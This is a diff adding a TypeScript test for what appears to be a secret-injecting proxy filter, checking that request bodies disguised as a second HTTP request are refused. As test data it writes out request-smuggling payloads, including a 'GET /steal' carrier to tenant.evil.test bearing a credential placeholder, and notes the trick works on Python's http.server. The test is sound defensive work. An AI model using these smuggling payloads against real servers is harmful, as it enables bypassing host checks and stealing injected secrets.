@@ -245,3 +245,37 @@ test("WebSocket compression is never negotiated where secrets are: a compressed 
   const g = new RequestFilter(secrets(), { sni: "other.test", pinned: true });
   assert.doesNotMatch(Buffer.concat(g.push(Buffer.from(up.replace("api.example.test", "other.test").replace(/Authorization[^\r]*\r\n/, ""))).out).toString("latin1"), /sec-websocket-extensions/i);
 });
+
+test("a body that begins as a request line is refused: a server that leaves a body unread takes it for the next request", () => {
+  // Python's http.server never reads a body its handler does not (a do_GET ignores a GET's body;
+  // an early 401 leaves a POST's): the unread bytes are parsed as the next request, with their own
+  // Host. (Checked with python3: "GET / ... Content-Length: N" + "GET /smuggled HTTP/1.1\r\nHost:
+  // tenant.evil.test" was served as a second request for tenant.evil.test.)
+  const bind = (h: string) => (h === "api.example.test" ? null : `${h} is not covered`);
+  const inner = "GET /smuggled HTTP/1.1\r\nHost: tenant.evil.test\r\n\r\n";
+  for (const method of ["GET", "POST"]) {
+    const r = moat(`${method} / HTTP/1.1\r\nHost: api.example.test\r\nContent-Length: ${inner.length}\r\n\r\n${inner}`, bind);
+    assert.equal(r.refused, 400, method);
+    assert.doesNotMatch(r.out, /smuggled/, `${method}: nothing of the body left`);
+  }
+  const http09 = moat(`POST / HTTP/1.1\r\nHost: api.example.test\r\nContent-Length: 34\r\n\r\nGET https://tenant.evil.test/x\r\n\r\n`, bind);
+  assert.equal(http09.refused, 400, "an HTTP/0.9 request line (Python serves it)");
+  // Ordinary bodies pass, also ones arriving a byte at a time.
+  const json = `{"q": "GET me HTTP/1.1 docs", "n": 1}`;
+  assert.equal(moat(`POST / HTTP/1.1\r\nHost: api.example.test\r\nContent-Length: ${json.length}\r\n\r\n${json}`, bind).refused, undefined);
+  const f = new RequestFilter(secrets(), { sni: "api.example.test", pinned: true, authority: bind });
+  const raw = Buffer.from(`POST /a HTTP/1.1\r\nHost: api.example.test\r\nContent-Length: 11\r\n\r\nhello\nworldGET /next HTTP/1.1\r\nHost: api.example.test\r\n\r\n`);
+  let out = "";
+  for (let i = 0; i < raw.length; i++) {
+    const r = f.push(raw.subarray(i, i + 1));
+    assert.equal(r.refusal, undefined);
+    out += r.out.map((b) => b.toString("latin1")).join("");
+  }
+  assert.equal(out, raw.toString("latin1"));
+  // A body held to substitute in (inject.body): refused before the value goes into it.
+  const held = new RequestFilter(validateSecrets([{ env: "KEY", allowedHosts: ["api.example.test"], placeholder: P, inject: { body: true } }], { KEY: "VALUE-123" }), { sni: "api.example.test", pinned: true });
+  const carrier = `GET /steal HTTP/1.1\r\nHost: tenant.evil.test\r\nAuthorization: Bearer ${P}\r\n\r\n`;
+  const h = held.push(Buffer.from(`POST /x HTTP/1.1\r\nHost: api.example.test\r\nContent-Length: ${carrier.length}\r\n\r\n${carrier}`));
+  assert.equal(h.refusal?.status, 400);
+  assert.doesNotMatch(h.out.map((b) => b.toString("latin1")).join(""), /VALUE-123/);
+});
